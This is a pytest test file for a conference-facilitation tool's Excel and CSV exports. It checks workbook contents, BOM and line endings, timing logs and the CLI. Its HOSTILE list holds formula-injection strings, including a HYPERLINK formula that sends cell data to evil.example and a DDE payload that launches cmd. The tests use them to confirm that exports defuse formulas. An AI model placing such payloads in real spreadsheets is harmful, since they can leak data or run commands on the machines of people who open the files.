"""Exports people open in Excel: .xlsx read back with openpyxl, CSV with a BOM, and user
text that never turns into a formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from report_fixtures import T0, add_question, international_session

from facilitator.core.model import Person, Session, Slot
from facilitator.core.notes import NoteKind
from facilitator.reports.exports import export_data
from facilitator.store import EventFile
from facilitator.store import notes as note_store
from facilitator.store import sessions as store
from facilitator.store.agenda_io import import_agenda
from facilitator.store.time_zone import set_event_time_zone

# Text a phone or a rapporteur could type that a spreadsheet would take as a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"Click for the agenda")',
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "=1+1"]


def _workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def _no_formulas(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def _sheet_dicts(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_agenda_workbook_reads_back_and_imports_again(event_file, tmp_path):
    data = export_data(event_file, "agenda", "xlsx")
    book = _workbook(data)
    assert book.sheetnames == ["Agenda", "Sessions"]
    slots = _sheet_dicts(book["Agenda"])
    assert len(slots) == 27
    assert slots[0]["order"] == 1 and slots[0]["planned_minutes"] == 5  # numbers, not text
    assert book["Agenda"].freeze_panes == "A2"
    sessions = _sheet_dicts(book["Sessions"])
    assert sessions[0]["room"] == "Plenary Hall"
    assert sessions[0]["starts_at"].startswith("2026-05-18T10:00")
    before = export_data(event_file, "agenda", "json")
    path = tmp_path / "agenda.xlsx"
    path.write_bytes(data)
    assert "27 speaking slots in 3 sessions" in str(import_agenda(event_file, path))
    assert export_data(event_file, "agenda", "json") == before


def test_hostile_names_survive_an_agenda_round_trip_as_text(event_file, tmp_path):
    slots = tuple(Slot(person=Person(name=text, organisation=text), planned_seconds=60)
                  for text in HOSTILE)
    store.add_session(event_file, Session(title="=Injected session", slots=slots))
    book = _workbook(export_data(event_file, "agenda", "xlsx"))
    _no_formulas(book)
    names = [row["name"] for row in _sheet_dicts(book["Agenda"])
             if row["session"] == "=Injected session"]
    assert names == HOSTILE
    cell = next(c for c in book["Agenda"]["D"] if c.value == "=1+1")
    assert cell.data_type == "s" and cell.quotePrefix  # stays text when edited in Excel
    csv_bytes = export_data(event_file, "agenda", "csv")
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    assert [r[3] for r in rows if r[0] == "'=Injected session"] == ["'" + t for t in HOSTILE]
    # What was exported imports back as it was (an import trims spaces and tabs around text).
    for kind in ("csv", "xlsx"):
        path = tmp_path / f"agenda.{kind}"
        path.write_bytes(csv_bytes if kind == "csv" else export_data(event_file, "agenda", kind))
        import_agenda(event_file, path)
        session = store.find_session(event_file, "=Injected session")
        names = [s.person.name for s in store.get_session(event_file, session.id).slots]
        assert names == [text.strip() for text in HOSTILE]


@pytest.fixture
def busy_session(event_file) -> int:
    session_id = international_session(event_file)
    for index, text in enumerate(HOSTILE):
        add_question(event_file, session_id, text, author=HOSTILE[-1 - index],
                     at=T0 + 60 + index)
    note_store.add_note(event_file, session_id, "=2+5 billion for housing", at=T0 + 70,
                        kind=NoteKind.KEY_MESSAGE, tags=["=Q1", "SDG 11"])
    set_event_time_zone(event_file, "Asia/Kathmandu")  # UTC+05:45: no whole-hour guessing
    return session_id


def test_questions_and_notes_workbooks(event_file, busy_session):
    questions = _workbook(export_data(event_file, "questions", "xlsx", busy_session))
    _no_formulas(questions)
    rows = _sheet_dicts(questions["Questions"])
    assert [r["text"] for r in rows][-len(HOSTILE):] == HOSTILE
    assert [r["author"] for r in rows][-len(HOSTILE):] == HOSTILE[::-1]
    assert rows[0]["votes"] == 12
    # 1_800_000_000 is 2027-01-15T08:00:00Z: 13:45 in Kathmandu.
    assert rows[0]["time"] == "2027-01-15T13:45:00+05:45"
    notes = _workbook(export_data(event_file, "notes", "xlsx", busy_session))
    _no_formulas(notes)
    note = _sheet_dicts(notes["Notes"])[-1]
    assert (note["text"], note["tags"]) == ("=2+5 billion for housing", "=Q1; SDG 11")
    assert "Asia/Kathmandu" in notes.properties.description


def test_csv_files_have_a_bom_crlf_and_defused_formulas(event_file, busy_session):
    data = export_data(event_file, "questions", "csv", busy_session)
    assert data.startswith(b"\xef\xbb\xbfid,time,text,")
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["text"] for r in rows][-len(HOSTILE):] == ["'" + text for text in HOSTILE]
    # What a terminal or a pipe gets: the same CSV, without the BOM.
    text = export_data(event_file, "questions", "csv", busy_session, for_file=False)
    assert text == data.decode("utf-8-sig")


def test_timing_log_planned_against_actual(event_file, document_clock_session):
    session_id, started = document_clock_session
    book = _workbook(export_data(event_file, "timing", "xlsx", session_id))
    first, second, third = _sheet_dicts(book["Timing"])[:3]
    assert first["planned_start"] == "2026-05-18T14:00:00+02:00"
    assert first["planned_end"] == "2026-05-18T14:05:00+02:00"
    assert second["planned_start"] == "2026-05-18T14:05:00+02:00"
    assert first["actual_start"] == "2026-05-18T14:02:00+02:00"
    assert first["actual_end"] == "2026-05-18T14:08:00+02:00"
    # 6 minutes on the clock, 40 s of it paused: 320 s spoken against 300 + 30 given.
    assert (first["spoken_seconds"], first["planned_seconds"], first["difference_seconds"]) == (
        320, 300, 20)
    assert (first["paused_seconds"], first["pauses"]) == (40, 1)
    assert (first["adjusted_seconds"], first["adjustments"]) == (30, 1)
    assert first["status"] == "finished" and second["status"] == "speaking"
    assert third["status"] == "not started" and third["actual_start"] is None
    data = export_data(event_file, "timing", "csv", session_id)
    assert data.startswith(b"\xef\xbb\xbforder,speaker,")


def test_a_speaker_passed_over_with_next_reads_skipped(event_file):
    """Next on a speaker who had not started: "skipped" in the timing log, not "not
    started" like those still to come."""
    from facilitator.core import session_clock as plan

    slots = tuple(Slot(person=Person(name=name), planned_seconds=300)
                  for name in ("Ana", "Bo", "Chen", "Dee"))
    session_id = store.add_session(event_file, Session(title="Skips", slots=slots))
    for step, action in ((1, "next_speaker"), (1, "next_speaker")):
        session = store.get_session(event_file, session_id)
        moved = plan.move(session.slots, session.current_slot_id, T0, step)
        store.move_to_slot(event_file, session_id, list(moved.changes),
                           moved.current_slot_id, action)
    session = store.get_session(event_file, session_id)
    chen = session.slots[2]
    store.move_to_slot(event_file, session_id, [(chen.id, chen.clock.start(T0 + 10))],
                       chen.id, "timer_started")
    rows = _sheet_dicts(_workbook(export_data(event_file, "timing", "xlsx", session_id))["Timing"])
    assert [row["status"] for row in rows] == ["skipped", "skipped", "speaking", "not started"]
    data = export_data(event_file, "timing", "csv", session_id).decode("utf-8-sig")
    assert [row["status"] for row in csv.DictReader(io.StringIO(data, newline=""))] == [
        "skipped", "skipped", "speaking", "not started"]


@pytest.fixture
def document_clock_session(event_file) -> tuple[int, float]:
    """A session run through the same clock moves the Run tab makes: start, pause,
    resume, +30 s, next speaker."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    set_event_time_zone(event_file, "Europe/Paris")
    slots = tuple(Slot(person=Person(name=name), planned_seconds=300)
                  for name in ("Ana", "Bo", "Chen"))
    session_id = store.add_session(event_file, Session(
        title="Timed", starts_at="2026-05-18T14:00", slots=slots))
    first, second, _ = store.get_session(event_file, session_id).slots
    start = datetime(2026, 5, 18, 14, 2, tzinfo=ZoneInfo("Europe/Paris")).timestamp()
    clock = first.clock.start(start)
    store.move_to_slot(event_file, session_id, [(first.id, clock)], first.id, "timer_started")
    clock = clock.pause(start + 100)
    store.move_to_slot(event_file, session_id, [(first.id, clock)], first.id, "timer_paused")
    clock = clock.resume(start + 140)
    store.move_to_slot(event_file, session_id, [(first.id, clock)], first.id, "timer_resumed")
    clock = clock.adjust(30)
    store.save_timer(event_file, first.id, clock, "time_adjusted", seconds=30)
    finished = clock.finish(start + 360)
    store.move_to_slot(event_file, session_id,
                       [(first.id, finished), (second.id, second.clock.start(start + 360))],
                       second.id, "next_speaker")
    return session_id, start


def test_export_errors_are_clear(event_file):
    from facilitator.store import EventFileError

    with pytest.raises(EventFileError, match="cannot export the questions as 'pdf'"):
        export_data(event_file, "questions", "pdf")
    with pytest.raises(EventFileError, match="only be written to a file"):
        export_data(event_file, "notes", "xlsx", for_file=False)
    with pytest.raises(EventFileError, match="no session 999"):
        export_data(event_file, "notes", "csv", 999)


def run(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "facilitator", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, timeout=120)


def test_cli_writes_every_export_as_xlsx(sample_path, tmp_path):
    with EventFile.open(sample_path) as ef:
        session_id = str(international_session(ef))
    for command in ("export", "questions", "notes", "timing"):
        target = tmp_path / f"{command}.xlsx"
        extra = [] if command == "export" else ["--session", session_id]
        result = run(command, sample_path, *extra, "--format", "xlsx", "-o", target,
                     cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        book = load_workbook(target)
        assert book.worksheets[0].max_row > 1, command
        _no_formulas(book)
    result = run("timing", sample_path, "--session", session_id, "--format", "xlsx",
                 cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.strip() == ("facilitator: error: a workbook (.xlsx) can only be "
                                     "written to a file: add -o FILE")
    result = run("timing", sample_path, "--session", session_id, "-o", tmp_path / "t.csv",
                 cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "t.csv").read_bytes().startswith(b"\xef\xbb\xbforder,speaker")
